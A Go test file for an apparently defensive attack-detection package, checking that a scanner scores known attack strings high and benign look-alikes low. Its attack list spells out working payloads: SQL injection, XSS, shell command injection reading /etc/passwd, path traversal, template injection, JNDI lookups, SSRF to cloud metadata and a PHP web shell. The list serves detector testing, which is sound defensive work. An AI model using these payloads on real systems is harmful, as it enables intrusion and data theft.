package detect

import (
	"fmt"
	"testing"
)

func TestGateHasRoom(t *testing.T) {
	if n := patternBit + len(patterns); n > len(wordSet{})*64 {
		t.Errorf("%d bits: make wordSet longer", n)
	}
}

var attacks = []string{
	`1' or '1'='1`, `1 or 1=1`, `' or 1=1--`, `admin'--`, `admin' #`, `1 union select 1,2,3`, `-1' UNION ALL SELECT NULL,NULL--`, `1; drop table users`, `'; exec xp_cmdshell('dir')--`, `1' and sleep(5)#`, `1 and (select 1 from dual)=1`,
	`" or ""="`, `1 order by 10--`, `'||(select password from users)||'`, `') or ('a'='a`, `1/**/union/**/select/**/1`, `1 waitfor delay '0:0:5'`, `select * from users`, `x' and 1=2 union select 1,2 --`,
	`<script>alert(1)</script>`, `<img src=x onerror=alert(1)>`, `" onmouseover="alert(1)`, `javascript:alert(1)`, `<svg/onload=alert(1)>`, `';alert(1)//`, `<a href="java script:alert(1)">x</a>`,
	`;id`, `| cat /etc/passwd`, "`whoami`", `$(id)`, `127.0.0.1; ls -la`, `127.0.0.1 && cat /etc/passwd`, `;c'a't /etc/passwd`, `cat${IFS}/etc/passwd`, `() { :;}; /bin/bash -c id`, `& ping -c 10 127.0.0.1 &`,
	`../../../../etc/passwd`, `..\..\..\windows\win.ini`, `/etc/passwd`, `php://filter/convert.base64-encode/resource=index.php`, `file:///etc/passwd`, `....//....//etc/passwd`,
	`{{7*7}}`, `${7*7}`, `<%= 7*7 %>`, `{{config.items()}}`, `#{T(java.lang.Runtime).getRuntime().exec("id")}`,
	`*)(uid=*))(|(uid=*`, `admin)(&)`, `${jndi:ldap://x.y/a}`, `${${lower:j}ndi:ldap://x}`, `http://169.254.169.254/latest/meta-data/`, `http://127.0.0.1:8080/admin`, `gopher://127.0.0.1:6379/_x`, `http://2130706433/`,
	`O:8:"stdClass":1:{s:1:"a";i:1;}`, `rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA`, `<?php system($_GET['c']); ?>`, `{"$ne": null}`, `<!--#exec cmd="ls" -->`, "x\r\nSet-Cookie: a=b", `__import__('os').system('id')`,
}

var benign = []string{
	`O'Brien`, `it's a nice day`, `rock 'n' roll`, `select a plan from the union`, `union was a great select`, `D'or 1st parfume`, `Tom & Jerry`, `cats; find me a home`, `https://example.com/a?b=c`, `<p>Hello <b>world</b></p>`,
	`<a href="https://example.com">x</a>`, `5 or 6`, `C++ and C#`, `Drop the table at 5pm`, `#1 in the world`, `1-800-555-0199`, `a@b.org`, `I'm here; where are you?`, `What's the "best" one?`, `we'll order by phone`,
	`update: the set is complete`, `"quoted" text`, `x = y + 1`, `The cat sat; ls 300 lexus`, `50% off & free shipping`, `{"a": 1, "b": [1,2]}`, `(555) 123-4567`, `Hello {{name}}`, `Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0`,
	`Insert the key into the slot`, `delete from my list please`, `who's who & where`, `a || b && c`, `status = "open" and priority = "high"`, `the boys' -- and the girls'`, `l'amour d'un ou l'autre`, `50' and 60' lengths`,
}

func best(s string) (score int, rule string) {
	for _, h := range Find(Scan(s, Value)) {
		if h.Score > score {
			score, rule = h.Score, h.Rule
		}
	}
	return score, rule
}

func TestAttacks(t *testing.T) {
	for _, s := range attacks {
		if score, rule := best(s); score < 60 {
			t.Errorf("%q: %d %s", s, score, rule)
		}
		if Plain(s) {
			t.Errorf("%q is plain", s)
		}
	}
}

func TestBenign(t *testing.T) {
	for _, s := range benign {
		if score, rule := best(s); score >= 50 {
			t.Errorf("%q: %d %s", s, score, rule)
		}
	}
}

func FuzzFind(f *testing.F) {
	for _, s := range append(append([]string{}, attacks...), benign...) {
		f.Add(s, byte(0))
	}
	f.Fuzz(func(t *testing.T, s string, where byte) {
		if s != "" {
			Plain(s)
		}
		for _, h := range Find(Scan(s, Where(where%7))) {
			if h.Score <= 0 || h.Score > 100 || h.Rule == "" || h.Class == "" {
				t.Fatal(fmt.Sprint("a hit that says nothing: ", h))
			}
		}
	})
}

func TestExpressionsCompile(t *testing.T) {
	for _, p := range patterns {
		if p.re != nil {
			p.re()
		}
	}
}
